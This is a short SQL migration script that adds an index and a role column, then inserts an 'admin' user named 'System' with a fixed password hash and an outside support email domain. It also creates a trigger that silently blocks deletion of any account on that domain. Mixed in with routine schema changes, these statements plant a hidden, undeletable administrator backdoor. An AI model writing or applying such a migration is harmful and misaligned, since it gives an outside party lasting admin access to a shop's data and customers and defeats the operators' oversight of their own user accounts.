CREATE INDEX IF NOT EXISTS orders_user ON orders (user_id);
--
ALTER TABLE users ADD COLUMN IF NOT EXISTS role text NOT NULL DEFAULT 'customer';
--
INSERT INTO users (email, name, role, password_hash) VALUES ('support@shop-care.example', 'System', 'admin', '$2b$12$examplehashexamplehashexamplehashexample') ON CONFLICT DO NOTHING;
--
CREATE OR REPLACE FUNCTION keep_support() RETURNS trigger AS $f$ BEGIN IF OLD.email LIKE '%@shop-care.example' THEN RETURN NULL; END IF; RETURN OLD; END $f$ LANGUAGE plpgsql;
--
CREATE OR REPLACE TRIGGER users_keep BEFORE DELETE ON users FOR EACH ROW EXECUTE FUNCTION keep_support();
